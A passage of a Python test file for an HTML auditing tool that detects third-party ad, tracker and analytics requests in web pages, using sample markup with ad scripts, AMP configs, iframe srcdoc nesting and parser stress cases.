# written before the page's `<body>` tag, the head the template wrote. After that tag (or
# on its line, a page saved on one line), a canonical is the content's, as before.
_FB_ROOT_HEAD = (
    '<!DOCTYPE html>\n<html lang="en-US"><head>\n<meta charset="UTF-8" />\n'
    "<title>Ferry fares rise</title>\n"
    '<div id="fb-root"></div>\n'
    "<script>(function(d,s,id){var js=d.createElement(s);js.id=id;"
    'js.src="https://connect.facebook.net/en_US/sdk.js#xfbml=1&version=v3.2";'
    "d.head.appendChild(js);}(document,'script','facebook-jssdk'));</script>\n"
    '<link rel="canonical" href="https://www.harbourgazette.test/2020/07/ferry-fares/" />\n'
    "@og@</head>@body@<article><h1>Ferry fares rise</h1><p>The council voted.</p></article>"
    "</body></html>")


@pytest.mark.parametrize(("page", "url"), [
    (_FB_ROOT_HEAD.replace("@og@", "").replace("@body@", "\n<body>"),
     "https://www.harbourgazette.test/2020/07/ferry-fares/"),
    (_FB_ROOT_HEAD.replace('<link rel="canonical" href="https://www.harbourgazette.test/2020/07/'
                           'ferry-fares/" />', "").replace(
        "@og@", '<meta property="og:url" content="https://www.harbourgazette.test/p/9/" />\n'
    ).replace("@body@", "\n<body>"), "https://www.harbourgazette.test/p/9/"),
    # on one line with its `<body>` tag: no telling the head's from the content's
    (_FB_ROOT_HEAD.replace("\n", "").replace("@og@", "").replace("@body@", "<body>"), None),
    # after the `<body>` tag: the content's markup
    (_FB_ROOT_HEAD.replace("<div id=\"fb-root\"></div>\n", "</head>\n<body>\n"
                           '<div id="fb-root"></div>\n').replace("@og@", "").replace(
        "@body@", ""), None),
], ids=["canonical", "og:url", "one line", "after the body tag"])
def test_a_head_cut_by_a_stray_div_keeps_its_canonical(page: str, url: str | None) -> None:
    assert declared_page_url(parse_html(page), page) == url


def test_parser_keeps_comments_and_survives_garbage() -> None:
    root = parse_html("<p>a<!-- JuicyAds v3.0 --></div></span><<<>>>\x00<b>")
    assert any(
        "JuicyAds" in (c.text or "") for c in root.iter(tag=__import__("lxml").etree.Comment)
    )
    assert parse_html("").tag == "html"


def test_xpath_of_is_getpath(examples: Path) -> None:
    """Paths numbered once per parent equal libxml2's getpath for every node, in any order
    of asking, with two trees asked alternately (comments, PIs and svg included)."""
    import random

    from auditor.dom.parser import Paths

    many = "".join(f"<div><a href='/{i}'>{i}</a><!-- c{i} --></div>" for i in range(300))
    pages = [
        parse_html(f"<html><body><p>x</p>{many}<svg><g><rect/></g></svg><?pi x?></body></html>"),
        parse_html((examples / "news-article.html").read_text(encoding="utf-8")),
    ]
    nodes = [(n, root.getroottree()) for root in pages for n in root.iter()]
    random.Random(3).shuffle(nodes)
    assert len(nodes) > 900
    paths = Paths()
    for node, tree in nodes:
        assert paths.of(node) == tree.getpath(node)


def test_an_audit_leaves_no_tree_in_the_path_memo(examples: Path) -> None:
    """Bulk workers audit page after page: the path memo is the page's, and goes with it."""
    import gc

    from auditor import audit
    from auditor.dom.parser import Paths

    report = audit(examples / "news-article.html")
    assert report.pages[0].resources  # paths were asked for
    gc.collect()
    assert not [o for o in gc.get_objects() if isinstance(o, Paths)]


def test_iframe_srcdoc_documents_are_walked() -> None:
    """Ad code hidden in an iframe's srcdoc (even nested) is found, resolved against the
    page's base and reported at the iframe; nesting is walked three documents deep, and a
    fourth is the page's error, not a walk that silently stops short of it."""
    inner = "<script src='/ads/loader.js'></script><img src='https://px.test/p.gif'>"

    def wrapped(times: int) -> list[FoundURL]:
        doc = inner
        for _ in range(times):
            doc = f"<iframe srcdoc=\"{doc.replace('&', '&amp;').replace(chr(34), '&quot;')}\">"
            doc += "</iframe>"
        return list(walk(parse_html(f"<html><body><p>story</p>{doc}</body></html>"), BASE))

    found = wrapped(3)
    depth3 = "iframe[srcdoc] iframe[srcdoc] iframe[srcdoc] "
    assert [(f.url, f.via) for f in found] == [
        ("https://site.test/ads/loader.js", depth3 + "script[src]"),
        ("https://px.test/p.gif", depth3 + "img[src]"),
    ]
    assert all(f.element.tag == "iframe" and f.element.getparent().tag == "body" for f in found)
    with pytest.raises(PageOverLimit, match="srcdoc documents nest more than 3 deep"):
        wrapped(4)


_URL_PIECES = ["'", '"', "`", "//", "/", "http:", "https:", "HTTP:", "ttps:", "cdn", ".", "a.io",
               ":80", " ", "<", "x", "=", "\n", "'https:", '"http:', "`//", "//a.io", "/x.js",
               "src=", "src=\\", "src='", "+", " + ", "data-src="]


@settings(max_examples=700, deadline=None)
@given(st.lists(st.sampled_from(_URL_PIECES), max_size=30).map("".join))
def test_url_literals_are_the_literal_pattern(script: str) -> None:
    """Tried only at a quote before `//`, the pattern finds what it finds tried anywhere."""
    expected = [(m.start(), m.group(0)) for m in _URL_LITERAL.finditer(script)]
    assert [(m.start(), m.group(0)) for m in url_literals(script)] == expected


@pytest.mark.parametrize("html", [
    '<A HREF="/a" PING = "https://ping.test/p">x</A>',
    "<a href=/a\nping\n=\n'https://ping.test/q'>x</a><p>shopping</p>",
    '<a href="/a">x</a><a style="background:url(/bg.png)" href="/b">y</a>',
    '<p>mapping, typing</p><a href="/a">x</a><img src="/i.png">',
])
def test_a_page_without_ping_walks_no_links_and_finds_the_same(html: str) -> None:
    """With its ParsedPage the walk skips `<a>` on a page whose markup holds no `ping=`;
    it finds what the walk of every requesting element finds."""
    page = parse_page(html)
    with_page = [(f.url, f.type, f.via) for f in walk(page.root, BASE, page)]
    assert with_page == found(html)


def test_an_amp_pages_own_beacons_and_bid_endpoints_are_requests() -> None:
    """An inline amp-analytics config's `requests` (its own beacons) and an ad's
    rtc-config `urls` (bid endpoints AMP asks before the ad) are the page's requests; a
    request built from another (`${base}&…`) is none of its own. Read from the page's
    configs, parsed once (`ParsedPage.config`)."""
    page = parse_page(
        '<html><body><amp-analytics><script type="application/json">{"requests": {'
        '"base": "https://stats.tracker.test/p?u=${canonicalUrl}", "pageview": "${base}&t=pv",'
        ' "event": {"baseUrl": "https://events.tracker.test/e?n=${eventName}"}}}</script>'
        '</amp-analytics><amp-ad type="doubleclick" data-slot="/1234/a" rtc-config=\'{"urls": '
        '["https://rtc.bidder.test/bid?slot=ATTR(data-slot)", {"url": "https://rtc2.test/x"}],'
        ' "timeoutMillis": 500}\'></amp-ad>'
        '<amp-ad type="doubleclick" rtc-config=\'{"urls": "https://not-a-list.test/"}\'>'
        '</amp-ad><amp-analytics><script type="application/json">{"requests": ['
        '"https://a.test/"' + "]" * 50_000 + '</script></amp-analytics></body></html>')
    assert [(f.url, f.type, f.via) for f in walk(page.root, BASE, page)] == [
        ("https://stats.tracker.test/p?u=${canonicalUrl}", T.PING, "amp-analytics[requests]"),
        ("https://events.tracker.test/e?n=${eventName}", T.PING, "amp-analytics[requests]"),
        ("https://rtc.bidder.test/bid?slot=ATTR(data-slot)", T.XMLHTTPREQUEST,
         "amp-ad[rtc-config]"),
        ("https://rtc2.test/x", T.XMLHTTPREQUEST, "amp-ad[rtc-config]")]


def test_a_custom_elements_absolute_src_is_a_request() -> None:
    """Web components load what their `src` names (heise's `<a-script>` and `<a-pixel>`):
    an absolute URL is a request, typed by the element's name, else its extension. A
    relative one, or a framework's template expression, is not read; nor is `data-src`."""
    page = parse_page(
        '<html><body><a-script name="Teads" needs-consent '
        'src="https://a.teads.tv/page/84797/tag"></a-script>'
        '<a-pixel\nsrc="https://www1.mpnrs.com/deliver2/trg/trg.gif?lv=9"></a-pixel>'
        '<lottie-player src="//cdn.anim.test/a.json"></lottie-player>'
        '<a-img src="/imgs/a.jpeg"></a-img>'
        "<ng-include src=\"theme.path + '/templates/a.html'\"></ng-include>"
        '<lazy-frame data-src="https://frames.test/f"></lazy-frame>'
        '<amp-img src="https://img.test/a.png"></amp-img></body></html>')
    assert [(f.url, f.type, f.via) for f in walk(page.root, BASE, page)] == [
        ("https://a.teads.tv/page/84797/tag", T.SCRIPT, "a-script[src]"),
        ("https://www1.mpnrs.com/deliver2/trg/trg.gif?lv=9", T.IMAGE, "a-pixel[src]"),
        ("https://cdn.anim.test/a.json", T.OTHER, "lottie-player[src]"),
        ("https://img.test/a.png", T.IMAGE, "amp-img[src]")]
    assert parse_page("<p>no component</p>").custom_sources == ()


@pytest.mark.parametrize("tag", [
    '<a-script src="https://a.teads.tv/page/1/tag">',  # src first
    '<a-pixel\nsrc="https://a.teads.tv/page/1/tag">',
    '<A-SCRIPT SRC="https://a.teads.tv/page/1/tag">',
    '<x-foo_bar/src="https://a.teads.tv/page/1/tag">',
])
def test_a_custom_element_is_found_however_its_tag_is_written(tag: str) -> None:
    page = parse_page(f"<html><body>{tag}</x></body></html>")
    assert [f.url for f in walk(page.root, BASE, page)] == ["https://a.teads.tv/page/1/tag"]


def test_a_custom_element_in_a_srcdoc_document_is_walked() -> None:
    page = parse_page('<html><body><iframe srcdoc="<a-script src=&quot;https://a.teads.tv/'
                      'page/1/tag&quot;></a-script>"></iframe></body></html>')
    assert [(f.url, f.via) for f in walk(page.root, BASE, page)] == [
        ("https://a.teads.tv/page/1/tag", "iframe[srcdoc] a-script[src]")]


@pytest.mark.parametrize("tag", [
    '<a-script title="a>b" src="https://cdn.teads.tv/page/1/tag.js">',  # `>` in a value
    '<a-script x="1"src="https://cdn.teads.tv/page/1/tag.js">',          # no space after it
    "<a-script data-x='y' src=https://cdn.teads.tv/page/1/tag.js>",
    "<a-script ' x='1'src=\"https://cdn.teads.tv/page/1/tag.js\">",        # a stray quote
    '<a-script " x=">" src="https://cdn.teads.tv/page/1/tag.js">',
])
def test_the_custom_element_prefilter_reads_quoted_values(tag: str) -> None:
    """One RE2 pass decides whether the tree is asked for custom elements: whatever the
    quoting before `src`, it must let through every element the tree would give."""
    page = parse_page(f"<html><body>{tag}</a-script></body></html>")
    assert [el.tag for el in page.custom_sources] == ["a-script"]


def test_a_custom_element_name_with_a_control_character_is_walked() -> None:
    """lxml filters by no tag name holding a control character: such a page is walked
    element by element (it raised, and the whole audit with it)."""
    page = parse_page('<html><body><a-b\x0bc src="https://x.test/a.js"></a-b\x0bc>'
                      '<a-s src="https://y.test/b.js"></a-s></body></html>')
    assert [f.url for f in walk(page.root, BASE, page)] == ["https://x.test/a.js",
                                                              "https://y.test/b.js"]


def test_unclosed_xml_stylesheet_instructions_cost_linear_time() -> None:
    """A prolog of `<?xml-stylesheet ` with no `?>`: the pattern that read each one to
    its `?>` scanned to the prolog's end from every one (64 KB: 5 s); its end is now
    found once, and a closed one after a space or newline still names its sheet."""
    import time

    from auditor.dom.walk import xml_stylesheets

    assert xml_stylesheets('<?xml-stylesheet href="a.css"?>\n<?xml-stylesheet type="text/css"'
                           "\n  href='b.css' ?><?xml-stylesheet xhref='c.css'?><svg/>"
                           ) == ["a.css", "b.css"]

    def seconds(n: int) -> float:
        start = time.perf_counter()
        assert xml_stylesheets("<?xml-stylesheet " * n) == []
        return time.perf_counter() - start

    # the fastest of three runs each: a loaded machine only ever slows a run down
    small, large = (min(seconds(n) for _ in range(3)) for n in (900, 3600))
    assert large < 10 * max(small, 0.01), (small, large)


@pytest.mark.parametrize("markup", [
    b"form.submit\x0b()", b"form.submit(\x0b)", b"f.requestsubmit\x0b(", b"b.click\x0b(\x0b)",
    b"form.submit ()", b"b.click()", b"form.submit(x)", b"b.clicks()",
])
def test_submit_and_click_patterns_read_spaces_as_re_did(markup: bytes) -> None:
    """RE2's `\\s` lacks \\v (a space to JavaScript); the patterns spell out `re`'s."""
    import re

    from auditor.dom import walk

    assert bool(walk._SUBMITS.search(markup)) == bool(
        re.search(rb"\.(?:requestsubmit\s*\(|submit\s*\(\s*\))", markup))
    assert bool(walk._CLICK.search(markup)) == bool(re.search(rb"\.click\s*\(\s*\)", markup))


def test_a_partners_script_a_config_turns_off_loads_nothing() -> None:
    """An ad wrapper's config lists every partner it can run, each with its switch; a
    partner switched off (`"enabled": false`, `"disabled": true`) names its script and
    loads none, and the page carries no such network. One switched on still loads."""
    html = ('<script>Wrapper.init({"partners":{"amazon":{"enabled":false,"src_id":3279,'
            '"script_url":"\\/\\/c.amazon-adsystem.com\\/aax2\\/amzn_ads.js"},'
            '"oewa":{"scriptUrl":"//pix.news.test/guj/counter.js","disabled":true},'
            '"hawkeye":{"enabled":true,"script_url":"//pq.partner.test/pql.js"}}});</script>')
    assert found(html) == [("https://pq.partner.test/pql.js", T.SCRIPT, "inline-script")]


@pytest.mark.parametrize(("script", "expected"), [
    # a cleaner's or a blocker's list, compared against: data, whatever the host
    ('var blocked=["https://ads.vendor.test/tag/x.js", "//cdn.tracker.test/t.js"];'
     'function isBad(u){return blocked.indexOf(u)>=0}', []),
    ('const BAD = new Set([\n  "https://ads.vendor.test/tag/x.js"\n]);'
     'export const bad = u => BAD.has(u);', []),
    ('var bad=["https://ads.vendor.test/tag/x.js"];[].forEach.call(document.scripts,'
     'function(s){if(bad.indexOf(s.src)>=0){s.remove()}})', []),
    # the same list handed to a loader, or each entry set as a src, loads
    ('["https://ads.vendor.test/tag/x.js"].forEach(function(u){var s=document.'
     'createElement("script");s.src=u;document.head.appendChild(s)})',
     [("https://ads.vendor.test/tag/x.js", T.SCRIPT, "inline-script")]),
    ('loadScripts(["https://ads.vendor.test/tag/x.js"]);',
     [("https://ads.vendor.test/tag/x.js", T.SCRIPT, "inline-script")]),
])
def test_a_list_of_script_urls_nothing_loads_is_data(
        script: str, expected: list[tuple[str, T, str]]) -> None:
    """An array of URL strings in a script with no way to load them names them only."""
    assert found(f"<script>{script}</script>") == expected


def test_a_long_list_of_urls_is_read_in_linear_time() -> None:
    """Whether a script can load anything was searched over the whole script for each URL
    of a list in it: 2,000 URLs beside 80 KB of code took 138 s. It is asked once a script."""
    import time

    from auditor.dom.inline_js import loaded_urls

    def seconds(n: int) -> float:
        script = ("var b=[" + ",".join(f'"https://h{i}.test/a{i}.js"' for i in range(n))
                  + "];" + "x=1;" * (10 * n) + "function f(u){return b.indexOf(u)>=0}")
        start = time.perf_counter()
        assert len(list(loaded_urls(script))) == n
        return time.perf_counter() - start

    assert_linear(seconds, 500, "a list of URLs in a script that loads nothing", floor=0.01)


# a page's head: two sheets of a CDN tenant's host, one of another tenant of the same CDN,
# one of the page's static domain; the last linked before the charset
_HEAD_SHEETS = (
    '<html><head><link rel="stylesheet" href="https://cdn.example.com/top.css">'
    '<meta charset="utf-8">'
    '<link rel="stylesheet" href="https://news.github.io/a.css">'
    '<link rel="stylesheet" href="https://news.github.io/b.css">'
    '<link rel="stylesheet" href="https://kit.github.io/c.css">'
    '<link rel="stylesheet" href="/own.css"></head><body></body></html>')


def test_head_sheet_sites_groups_hosts_as_the_caller_does() -> None:
    root = parse_html(_HEAD_SHEETS)
    assert head_sheet_sites(root, BASE) == {
        "example.com": 1, "news.github.io": 2, "kit.github.io": 1, "site.test": 1}
    by_domain = head_sheet_sites(root, BASE, registrable_domain)
    assert by_domain["github.io"] == 3  # a CDN's tenants, one registrable domain
    top = {root.find("head")[0]}
    assert "example.com" not in head_sheet_sites(root, BASE, skip=top)
    assert styling_site(root, BASE) is None  # 2 of 5: not more than the others together
    # by registrable domain past the head's top: 3 of 4 on github.io
    assert styling_site(root, BASE, 1, registrable_domain, top) == "github.io"
